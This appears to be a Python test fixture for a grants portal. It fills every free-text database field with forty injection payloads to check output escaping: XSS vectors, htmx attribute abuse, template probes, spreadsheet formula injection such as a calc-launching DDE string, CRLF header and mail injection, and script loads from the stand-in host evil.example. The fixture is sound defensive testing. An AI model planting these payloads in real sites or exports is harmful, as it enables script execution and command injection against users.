"""Forty texts that want to be more than text, and a world in which every free text is all of them."""

from typing import Any

from sqlalchemy import select

from portal.applications.models import Application, Snapshot
from portal.awards.models import Award
from portal.core.audit import EventDetail
from portal.core.db import db
from portal.core.outbox import Mail
from portal.people.models import Organisation, User
from portal.questions.models import Answer
from tests.doors.canaries import FREE_TEXTS

HERE = "https://evil.example/"
PAYLOADS = (
    "<script>alert(1)</script>", f"<script src={HERE}1></script>", "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>", "<img src=x onerror=alert(4)>", f"<img src={HERE}2>", "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>", "<body onload=alert(7)>", f"<iframe src={HERE}3></iframe>",
    "<iframe srcdoc='<script>alert(8)</script>'></iframe>", f"<link rel=stylesheet href={HERE}4>",
    f"<style>@import '{HERE}5';</style>", f"<meta http-equiv=refresh content='0;url={HERE}6'>", f"<base href={HERE}>",
    f"<form action={HERE}><button>Go</button></form>", "<a href=javascript:alert(9)>x</a>", "<details open ontoggle=alert(10)>",
    "<input autofocus onfocus=alert(11)>", f"<video poster={HERE}7></video>", f"<object data={HERE}8></object>",
    "<math><mtext><style><img src onerror=alert(12)></style></mtext></math>", '" onmouseover="alert(13)',
    "' autofocus onfocus='alert(14)", "<b hx-post=/sign-out hx-trigger=load>x</b>", f"<b hx-get={HERE}9 hx-trigger=load>x</b>",
    "<b data-hx-get=/evil hx-trigger=revealed>x</b>", "<b hx-on:load=alert(15)>x</b>", "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}", "${7*7}", "#{7*7}", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/","x")',
    "+1+1", "-2+3", "@SUM(1,1)", "\u202egnp.exe", "%0d%0aSet-Cookie: evil=1", "\r\nBcc: everyone@evil.example",
)  # fmt: skip
ALL = " ".join(PAYLOADS)


def poison() -> None:
    """Every free text becomes all of the forty, after one that a spreadsheet would run."""
    for model, columns in (
        *FREE_TEXTS.items(),
        (Application, ("title",)),
        (Award, ("title", "purpose")),
        (Mail, ("subject", "body")),
        (User, ("name",)),
    ):
        for row in db.session.scalars(select(model)):
            for column in columns:
                setattr(row, column, hostile(row.id))
    for organisation in db.session.scalars(select(Organisation)):
        organisation.name = hostile(organisation.id)  # no two are called the same
    for answer in db.session.scalars(select(Answer)):
        answer.raw = hostile(answer.id)
    for detail in db.session.scalars(select(EventDetail)):
        detail.facts = poisoned(detail.facts)
    for snapshot in db.session.scalars(select(Snapshot)):
        snapshot.content = poisoned(snapshot.content)


def hostile(number: int) -> str:
    return f"{PAYLOADS[32 + number % 5]} {number} {ALL}"


def poisoned(value: Any) -> Any:
    """The same within what is kept as JSON; what is short and plain there names kinds and codes."""
    if isinstance(value, dict):
        return {key: value if key in {"kind", "code", "row", "stage", "key"} else poisoned(value) for key, value in value.items()}
    if isinstance(value, list):
        return [poisoned(each) for each in value]
    return ALL if isinstance(value, str) and " " in value else value
